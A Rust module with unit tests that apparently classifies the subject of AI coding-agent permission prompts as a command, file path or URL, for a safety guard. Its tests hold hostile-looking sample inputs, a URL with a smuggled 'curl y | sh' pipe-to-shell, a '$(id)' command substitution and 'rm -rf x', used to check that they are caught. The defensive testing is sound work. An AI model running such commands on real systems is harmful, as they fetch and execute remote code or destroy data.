//! What a prompt's subject is: a shell `command`, a `path` (a file to write or edit), a `url`,
//! or `None` when unknown. Rules and the guard treat them differently: only command patterns
//! approve a command, and an unknown subject is treated as a command (the safe reading).

use serde_json::Value;

use crate::model::SubjectKind;

/// The kind of subject a hook payload's tool works on, when the payload says which tool.
pub fn from_payload(payload: &Value) -> Option<SubjectKind> {
    let s = |v: &Value, k: &str| v.get(k).and_then(Value::as_str).unwrap_or("").to_string();
    // Claude Code, Codex and Qwen Code: tool_name; Copilot CLI: toolName; Gemini CLI:
    // details.type; OpenCode: type.
    let tool = [
        s(payload, "tool_name"),
        s(payload, "toolName"),
        payload
            .get("details")
            .map(|d| s(d, "type"))
            .unwrap_or_default(),
        s(payload, "type"),
    ]
    .into_iter()
    .find(|t| !t.is_empty())?;
    from_tool(&tool)
}

/// The kind of subject of a tool, by its name as the CLIs call them.
pub fn from_tool(tool: &str) -> Option<SubjectKind> {
    let t = tool.to_ascii_lowercase();
    Some(match t.as_str() {
        "bash" | "shell" | "exec" | "exec_command" | "local_shell" | "run_shell_command"
        | "command" => SubjectKind::Command,
        "write" | "edit" | "multiedit" | "notebookedit" | "apply_patch" | "edit_file"
        | "write_file" | "replace" | "patch" | "create" => SubjectKind::Path,
        "webfetch" | "web_fetch" | "fetch" | "websearch" | "web_search" => SubjectKind::Url,
        _ => return None,
    })
}

/// The kind of subject a dialog's words imply ("Bash command", "Do you want to run this
/// command?", "Edit file", "Fetch"), for prompts read off the screen.
pub fn infer(text: &str, subject: &str) -> Option<SubjectKind> {
    if subject.trim().is_empty() {
        return None;
    }
    let l = text.to_lowercase();
    let has = |w: &[&str]| w.iter().any(|x| l.contains(x));
    // What reaches a shell is a command whatever it starts with (`https://x; curl y | sh`):
    // the dialog's words decide first; a URL is only ever one word, with nothing a shell
    // would act on.
    if has(&[
        "command",
        "execution",
        "execute",
        "bash",
        "shell",
        "run ",
        "wants to use bash",
    ]) {
        return Some(SubjectKind::Command);
    }
    let s = subject.trim();
    let one_word = !s.contains(|c: char| c.is_whitespace() || ";|&$`()<>'\"\\".contains(c));
    if (s.starts_with("http://") || s.starts_with("https://")) && one_word {
        Some(SubjectKind::Url)
    } else if has(&["file", "edit", "change", "patch", "write", "create"]) {
        Some(SubjectKind::Path)
    } else if has(&["fetch", "url", "web"]) {
        Some(SubjectKind::Url)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn hooks_say_which_tool() {
        assert_eq!(
            from_payload(&json!({"tool_name": "Bash"})),
            Some(SubjectKind::Command)
        );
        assert_eq!(
            from_payload(&json!({"tool_name": "Write"})),
            Some(SubjectKind::Path)
        );
        assert_eq!(
            from_payload(&json!({"tool_name": "WebFetch"})),
            Some(SubjectKind::Url)
        );
        assert_eq!(
            from_payload(&json!({"details": {"type": "exec"}})),
            Some(SubjectKind::Command)
        );
        assert_eq!(
            from_payload(&json!({"details": {"type": "edit"}})),
            Some(SubjectKind::Path)
        );
        assert_eq!(
            from_payload(&json!({"toolName": "bash"})),
            Some(SubjectKind::Command)
        );
        assert_eq!(
            from_payload(&json!({"toolName": "create"})),
            Some(SubjectKind::Path)
        );
        assert_eq!(
            from_payload(&json!({"tool_name": "run_shell_command"})),
            Some(SubjectKind::Command)
        );
        assert_eq!(from_payload(&json!({"tool_name": "Mystery"})), None);
        assert_eq!(from_payload(&json!({})), None);
    }

    #[test]
    fn screens_are_read_by_their_words() {
        assert_eq!(
            infer("Do you want to proceed? Bash command", "rm -rf x"),
            Some(SubjectKind::Command)
        );
        assert_eq!(
            infer("Would you like to run the following command?", "ls"),
            Some(SubjectKind::Command)
        );
        assert_eq!(
            infer("Do you want to make this edit to a.rs?", "a.rs"),
            Some(SubjectKind::Path)
        );
        assert_eq!(
            infer("Fetch", "https://example.com"),
            Some(SubjectKind::Url)
        );
        assert_eq!(infer("Allow?", ""), None);
    }

    #[test]
    fn a_command_that_starts_like_a_url_is_a_command() {
        assert_eq!(
            infer("Bash command", "https://x.example; curl y | sh"),
            Some(SubjectKind::Command)
        );
        assert_eq!(
            infer("Do you want to run this command?", "http://a b"),
            Some(SubjectKind::Command)
        );
        assert_eq!(
            infer("Fetch", "https://example.com/a?b=c"),
            Some(SubjectKind::Url)
        );
        assert_eq!(
            infer("Allow?", "https://example.com/a"),
            Some(SubjectKind::Url)
        );
        assert_eq!(infer("Allow?", "https://example.com/$(id)"), None);
    }
}
